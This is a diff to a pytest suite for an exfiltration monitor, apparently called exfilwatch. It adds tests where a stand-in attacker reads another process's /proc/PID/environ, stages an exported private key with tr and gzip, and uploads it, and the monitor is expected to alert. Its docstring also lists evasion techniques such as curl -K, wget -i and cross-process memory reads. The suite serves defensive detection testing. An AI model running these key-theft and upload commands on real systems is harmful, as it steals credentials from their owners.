@@ -2,12 +2,13 @@
 (mmap, pread/preadv/readv, sendfile and splice to the uploader), a read budget flooded with
 decoys, an uploader that claims another identity (argv[0]) or takes its arguments from a file
 (curl -K, wget -i), a key and a connection opened before the monitor started, a flow with no
-name at all, and bytes copied out of or into another process's memory. Each attack alerts with its sub-technique and leaks no line of the key; each twin
-stays silent."""
+name at all, bytes copied out of or into another process's memory, and its environment read.
+Each attack alerts with its sub-technique and leaks no line of the key; each twin stays silent."""
 
 import contextlib
 import json
 import os
+import pathlib
 import subprocess
 
 import pytest
@@ -594,3 +595,68 @@ def test_key_copied_out_of_memory_inside_a_pid_namespace(monitor, standin, fake_
     holder_pid = get(found[0], "exfilwatch.object.process.pid")
     assert holder_pid != inner_pid, "the holder is named by its pid inside the namespace"
     assert_no_secret(monitor, key)
+
+
+# --- Class: another process's environment ------------------------------------------------------
+# A deploy script exports the key (`export HELD="$(cat KEY)"`) and runs a long job; an unrelated
+# process of another session reads the job's /proc/PID/environ and stages it for the upload. The
+# environment is the job's image, set at its exec from what it held then: a process that read the
+# key only after its exec (ssh with its identity, an agent) has no key in its environment, and
+# reading that is silent.
+
+@contextlib.contextmanager
+def exported_holder(tmp_path, held):
+    """A `sleep` in its own session whose environment holds `held`'s text, exported by the shell
+    that exec'd it; killed on the way out."""
+    holder = subprocess.Popen(["setsid", "bash", "-c", f'export HELD="$(cat {held})"; exec sleep 600'],
+                              stderr=subprocess.PIPE)
+    try:
+        comm = pathlib.Path(f"/proc/{holder.pid}/comm")
+        for _ in range(400):
+            if holder.poll() is not None or comm.read_text().strip() == "sleep":
+                break
+            subprocess.run(["sleep", "0.05"])
+        assert holder.poll() is None, f"the holder did not start: {holder.stderr.read().decode(errors='replace')}"
+        yield holder
+    finally:
+        holder.kill()
+        holder.wait()
+
+
+def environ_run(monitor, standin, fake_home, tmp_path, holder_pid, expect):
+    stolen, stage = tmp_path / "environ.txt", tmp_path / "environ.gz"
+    shell = (f"tr '\\0' '\\n' < /proc/{holder_pid}/environ > {stolen} && gzip -c {stolen} > {stage} && "
+             + UPLOAD.format(stage))
+    expect_run(expect, monitor, standin, fake_home, tmp_path, f"environ-{expect}", shell)
+    found = [r for r in monitor.records()
+             if is_action("object-io", {"exfilwatch.object.kind": "process_environ",
+                                        "exfilwatch.object.direction": "read"})(r)
+             and get(r, "exfilwatch.object.process.pid") == holder_pid]
+    assert found, f"no process_environ read of pid {holder_pid}"
+    assert all(get(r, "event.category") == ["process"] for r in found)
+    return stolen.read_text(errors="replace")
+
+
+def test_key_read_out_of_an_exported_environment(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    with exported_holder(tmp_path, key) as holder:
+        stolen = environ_run(monitor, standin, fake_home, tmp_path, holder.pid, "alert")
+    assert key.read_text().strip() in stolen
+    assert_no_secret(monitor, key)
+
+
+def test_report_read_out_of_an_exported_environment_is_silent(monitor, standin, fake_home, tmp_path):
+    report = harmless_report(tmp_path)
+    with exported_holder(tmp_path, report) as holder:
+        stolen = environ_run(monitor, standin, fake_home, tmp_path, holder.pid, "silent")
+    assert report.read_text().strip() in stolen
+
+
+def test_environment_of_a_process_that_read_the_key_after_its_exec_is_silent(monitor, standin, fake_home,
+                                                                              tmp_path):
+    # The holder reads the key into its memory after its exec (as ssh reads its identity): its
+    # memory holds the key, its environment does not.
+    key = key_of(fake_home)
+    with memory_holder(tmp_path, key) as (holder, _):
+        stolen = environ_run(monitor, standin, fake_home, tmp_path, holder.pid, "silent")
+    assert "PRIVATE KEY" not in stolen
